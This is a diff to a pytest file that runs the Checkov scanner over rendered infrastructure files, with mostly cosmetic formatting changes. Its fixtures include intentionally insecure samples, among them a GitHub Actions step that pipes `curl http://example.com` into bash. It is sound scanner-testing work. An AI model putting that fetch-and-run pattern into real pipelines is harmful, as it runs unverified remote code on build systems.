@@ -1,4 +1,4 @@
-"""Checkov over all renders: something passed, nothing failed, nothing was unreadable, and few skips, each with its reason."""
+"""Checkov over all renders: something passed, nothing failed, all was readable, and few skips, each with its reason."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ FRAMEWORKS = {
 }
 FAULTS = {
     "terraform": ("infra/terraform/main.tf", 'resource "aws_s3_bucket" "one" {\n  bucket = "one"\n}\n', "CKV_AWS_18"),
-    "dockerfile": ("Dockerfile", "FROM scratch\nCMD [\"/app\"]\n", "CKV_DOCKER_2"),
+    "dockerfile": ("Dockerfile", 'FROM scratch\nCMD ["/app"]\n', "CKV_DOCKER_2"),
     "github_actions": (
         ".github/workflows/a.yml",
         "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl http://example.com | bash\n",
@@ -32,8 +32,19 @@ MOST_SKIPPED = 0.03
 def checkov(framework: str, folder: Path) -> dict[str, Any]:
     """The report of one framework."""
     code, output = run(
-        [need("checkov"), "--directory", ".", "--framework", framework, "--output", "json", "--compact",
-         "--skip-download", "--soft-fail", "--skip-resources-without-violations"],
+        [
+            need("checkov"),
+            "--directory",
+            ".",
+            "--framework",
+            framework,
+            "--output",
+            "json",
+            "--compact",
+            "--skip-download",
+            "--soft-fail",
+            "--skip-resources-without-violations",
+        ],
         cwd=folder,
         env={"LOG_LEVEL": "ERROR", "CHECKOV_RUN_IN_DOCKER": ""},
     )
@@ -52,7 +63,7 @@ def test_policy(framework: str, gallery: Gallery, tmp_path: Path) -> None:
         pytest.skip(f"no render has files for checkov {framework}")
     report = checkov(framework, tree.folder)
     findings = [
-        f"{check['file_path'].lstrip('/')}:{check['file_line_range'][0]} {check['check_id']} {check['resource']}: {check['check_name']}"
+        "{file_path}:{file_line_range[0]} {check_id} {resource}: {check_name}".format(**check).lstrip("/")
         for check in report["results"]["failed_checks"]
     ]
     counts = report["summary"]
